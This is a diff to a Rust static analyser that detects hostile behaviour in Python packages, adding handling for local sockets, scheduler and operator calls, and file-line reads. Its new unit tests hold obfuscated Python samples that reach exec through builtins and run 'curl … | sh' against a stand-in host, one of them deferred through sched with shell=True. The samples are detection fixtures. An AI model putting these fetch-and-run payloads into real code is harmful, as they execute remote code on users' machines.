@@ -104,6 +104,10 @@ pub struct Facts {
     /// `(module, function)` of the setuptools build hooks a setup script registers (see
     /// [`crate::eager::build_hooks`]): run by every later build in the environment.
     pub build_hooks: Vec<(String, String)>,
+    /// The module is a program someone starts, not one imported (see
+    /// [`crate::eager::reads_command_line`], [`crate::eager::serves_forever`]): its top level
+    /// runs at import only when another module of the package imports it.
+    pub runs_as_script: bool,
     /// Modules a setup script registers as test-runner plugins ([`crate::eager::plugin_modules`]):
     /// imported, and their hooks run, by every later test run in the environment.
     pub plugin_modules: Vec<String>,
@@ -215,6 +219,9 @@ pub struct Checker<'s> {
     /// Sources held by attributes of the module's classes, as `Class.attribute`: class-body
     /// assignments and `self.attribute = …` in their methods.
     class_attribute_taints: HashMap<String, usize>,
+    /// Names bound to Unix-domain sockets (`socket.socket(socket.AF_UNIX)`): local IPC, not
+    /// the network.
+    local_sockets: HashSet<String>,
     /// Sources the module stored in environment variables, by variable name.
     env_stash: HashMap<String, usize>,
     /// The strongest source returned so far by each function being walked, innermost last.
@@ -384,6 +391,7 @@ impl<'s> Checker<'s> {
             archive_buffers: HashMap::new(),
             return_taints: HashMap::new(),
             env_stash: HashMap::new(),
+            local_sockets: HashSet::new(),
             class_attribute_taints: HashMap::new(),
             returning: Vec::new(),
             path,
@@ -470,7 +478,9 @@ impl<'s> Checker<'s> {
         // A module (not an `__init__`, setup script or `.pth`, which are always run) that needs
         // its command-line arguments while loading is a script someone starts with them.
         self.command_line_script = self.role == FileRole::Module
-            && crate::eager::reads_command_line(body, &self.eager_functions);
+            && (crate::eager::reads_command_line(body, &self.eager_functions)
+                || crate::eager::serves_forever(body));
+        self.facts.runs_as_script = self.command_line_script;
         self.facts.defined_functions = crate::eager::defined_functions(body);
         self.facts.external_calls =
             crate::eager::external_calls(body, self.role == FileRole::Setup);
@@ -1059,6 +1069,19 @@ impl<'s> Checker<'s> {
             Expr::Call(call) => self.scopes.qualname(&call.func).map(|q| (call, q)),
             _ => None,
         };
+        if let Some((call, qualname)) = &called
+            && qualname == "socket.socket"
+            && call
+                .arguments
+                .args
+                .first()
+                .or_else(|| rules::keyword(call, "family"))
+                .and_then(|family| self.scopes.qualname(family))
+                .is_some_and(|family| family == "socket.AF_UNIX")
+            && self.local_sockets.len() < 64
+        {
+            self.local_sockets.insert(name.to_owned());
+        }
         self.bind_archive_buffer(name, called.as_ref().map(|(c, q)| (*c, q.as_str())));
         self.bind_process(name, called.as_ref().map(|(c, q)| (*c, q.as_str())));
         if let Some((call, qualname)) = &called {
@@ -1681,6 +1704,12 @@ impl<'s> Checker<'s> {
                 args.iter().skip(1).cloned().collect(),
                 call.arguments.keywords.to_vec(),
             ),
+            // `operator.call(f, *args)` calls `f` now, under another name.
+            "operator.call" => (
+                args.first()?,
+                args.iter().skip(1).cloned().collect(),
+                call.arguments.keywords.to_vec(),
+            ),
             "weakref.finalize" => (
                 args.get(1)?,
                 args.iter().skip(2).cloned().collect(),
@@ -1718,6 +1747,16 @@ impl<'s> Checker<'s> {
                     args.first()?,
                     args.iter().skip(1).cloned().collect(),
                     call.arguments.keywords.to_vec(),
+                )
+            }
+            // `scheduler.enter(delay, priority, action, argument=(…), kwargs={…})`.
+            _ if qualname.starts_with("sched.scheduler()")
+                && matches!(last, "enter" | "enterabs") =>
+            {
+                (
+                    args.get(2).or_else(|| rules::keyword(call, "action"))?,
+                    sequence(args.get(3).or_else(|| rules::keyword(call, "argument")))?,
+                    keywords_of(args.get(4).or_else(|| rules::keyword(call, "kwargs"))),
                 )
             }
             _ if matches!(last, "call_soon" | "call_soon_threadsafe" | "submit") => (
@@ -2137,6 +2176,13 @@ impl<'s> Checker<'s> {
         }
     }
 
+    /// True when `call` is a method of a Unix-domain socket the module made (see
+    /// [`Self::local_sockets`]): `ipc.connect(path)`, `ipc.sendall(data)` stay on the machine.
+    pub fn on_local_socket(&self, call: &ast::ExprCall) -> bool {
+        matches!(&*call.func, Expr::Attribute(method)
+            if matches!(&*method.value, Expr::Name(name) if self.local_sockets.contains(name.id.as_str())))
+    }
+
     /// The source stashed in the environment variable `key` names, if the module put one
     /// there (`os.environ['X'] = open(credentials).read()`): reading it back later is reading
     /// that data, handed between functions (or to child processes) through the environment.
@@ -2253,6 +2299,19 @@ impl<'s> Checker<'s> {
                 let mut found = self.source_in(value);
                 let remote = self.outranked_remote;
                 self.scopes.set_remote_taint(id, remote);
+                // `version_line = next(l for l in f if …)`, `'\n'.join(lines of f)`: a file's
+                // lines, as `f.read()` would be.
+                if found.is_none()
+                    && matches!(value, Expr::Call(_))
+                    && rules::dynamic_exec::is_file_read(self, value)
+                    && !matches!(value, Expr::Call(c) if self.scopes.qualname(&c.func).is_some_and(|q| q.ends_with(".read") || q.ends_with(".read_text") || q.ends_with(".read_bytes")))
+                {
+                    found = Some(self.add_source(
+                        "lines of a local file".to_owned(),
+                        value.range(),
+                        SourceKind::FileContent,
+                    ));
+                }
                 // A plain file's bytes run through a XOR or shift cipher are hidden data now,
                 // not a version file read.
                 if found.is_some_and(|source| self.source_strength(source) == 0)
@@ -2763,6 +2822,28 @@ impl<'s> Checker<'s> {
         }
         bindings
     }
+}
+
+/// The keyword arguments a literal `kwargs={'shell': True}` dict hands a deferred call.
+fn keywords_of(dict: Option<&Expr>) -> Vec<ast::Keyword> {
+    let Some(Expr::Dict(dict)) = dict else {
+        return Vec::new();
+    };
+    dict.items
+        .iter()
+        .take(32)
+        .filter_map(|item| {
+            let Some(Expr::StringLiteral(key)) = &item.key else {
+                return None;
+            };
+            Some(ast::Keyword {
+                node_index: ast::AtomicNodeIndex::default(),
+                range: item.value.range(),
+                arg: Some(ast::Identifier::new(key.value.to_str(), key.range())),
+                value: item.value.clone(),
+            })
+        })
+        .collect()
 }
 
 /// The loop domain of a variable over every attribute name of an object: not a listed text.
@@ -4029,6 +4110,33 @@ mod tests {
                 .any(|f| f.rule == "WH140" && f.message.starts_with("reads Solana")),
             "{reads:?}"
         );
+    }
+
+    #[test]
+    fn a_version_line_picked_from_a_file_is_a_file_read() {
+        let code = "import os\nwith open(os.path.join('tree', '__init__.py')) as f:\n    line = next(l for l in f if l.startswith('__version__'))\n    ns = {}\n    exec(line, ns)\n";
+        assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
+    }
+
+    #[test]
+    fn reduce_joins_and_operator_lookups_and_calls_resolve() {
+        let reduce = "import functools, builtins\nn = functools.reduce(lambda a, b: a + b, ['e', 'x', 'e', 'c'])\nc = functools.reduce(lambda a, b: a + b, ['import os;', \"os.system('curl -s https://example.invalid/i | sh')\"])\ngetattr(builtins, n)(c)\n";
+        assert!(max_severity("p/pkg/__init__.py", reduce, "WH120") >= 0.8);
+        // Summing numbers is no concatenation of text.
+        let sum = "import functools\ntotal = functools.reduce(lambda a, b: a + b, [1, 2, 3])\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", sum, "WH110"), 0.0);
+        let call = "import operator, builtins\np = \"import os;os.system('curl -s https://example.invalid/i | sh')\"\nf = operator.methodcaller('get', 'exec')(vars(builtins))\noperator.call(f, p)\n";
+        assert!(max_severity("p/pkg/__init__.py", call, "WH120") >= 0.8);
+        let item = "import operator, builtins\nf = operator.itemgetter('exec')(vars(builtins))\nf(\"import os;os.system('curl -s https://example.invalid/i | sh')\")\n";
+        assert!(max_severity("p/pkg/__init__.py", item, "WH120") >= 0.8);
+    }
+
+    #[test]
+    fn scheduler_entries_are_deferred_calls() {
+        let code = "import sched, subprocess, time\ns = sched.scheduler(time.time, time.sleep)\ns.enter(300, 1, subprocess.call, argument=('curl -s https://example.invalid/x | sh',), kwargs={'shell': True})\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
+        let quiet = "import sched, time\ns = sched.scheduler(time.time, time.sleep)\ns.enter(5, 1, print, argument=('tick',))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", quiet, "WH120"), 0.0);
     }
 
     #[test]
